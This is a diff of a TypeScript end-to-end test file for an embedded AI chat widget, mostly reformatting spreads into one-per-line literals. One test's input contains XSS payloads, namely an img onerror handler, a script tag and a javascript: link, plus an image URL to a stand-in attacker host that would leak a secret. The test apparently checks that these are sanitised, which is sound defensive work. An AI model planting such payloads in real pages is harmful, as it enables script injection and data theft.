@@ -27,7 +27,9 @@ async function world(behavior: object = {}, token: object = {}, agentConfig: obj
   await expectStatus(201, addItem(tenant, surface, { capabilityId }));
   const allowedOrigins = [new URL(stack().url).host];
   const { clientToken } = await createToken(tenant, {
-    ...{ productSurfaceId: surface.id, allowedOrigins, ...token },
+    productSurfaceId: surface.id,
+    allowedOrigins,
+    ...token,
   });
   const path = `/v1/products/${productId}/surfaces/${surface.id}`;
   return { tenant, path, tokenPath: `/v1/client-tokens/${clientToken.id}` };
@@ -74,9 +76,19 @@ test('shows the chat of a surface, which answers, and asks no other origin for a
 test('Markdown of a model becomes elements; its HTML, images and dangerous links do not', async () => {
   const { page, requested, complaints } = await opened();
   const text = [
-    ...['# Title', '', '1. *one*', '2. `two`', '', '| a | b |', '|---|---|', '| 1 | 2 |', ''],
-    ...['<img src=x onerror="document.title=1"><script>document.title=2</script>', ''],
-    ...['![a picture](https://evil.example/p.png?secret)', '[run](javascript:document.title=3)'],
+    '# Title',
+    '',
+    '1. *one*',
+    '2. `two`',
+    '',
+    '| a | b |',
+    '|---|---|',
+    '| 1 | 2 |',
+    '',
+    '<img src=x onerror="document.title=1"><script>document.title=2</script>',
+    '',
+    '![a picture](https://evil.example/p.png?secret)',
+    '[run](javascript:document.title=3)',
     '[a page](https://example.com/a)',
   ].join('\n');
   await say(page, scripted({ text }));
@@ -144,7 +156,10 @@ test('a surface that is paused, has no token for this page, or does not exist is
 });
 
 const order = {
-  ...{ name: 'place_order', description: 'Orders', toolType: 'custom', config: { code: 'return "ordered"' } },
+  name: 'place_order',
+  description: 'Orders',
+  toolType: 'custom',
+  config: { code: 'return "ordered"' },
   parametersSchema: { type: 'object' },
 };
 const guarded = { tools: { runtimeTools: [order], approval: { require: ['place_order'] } } };
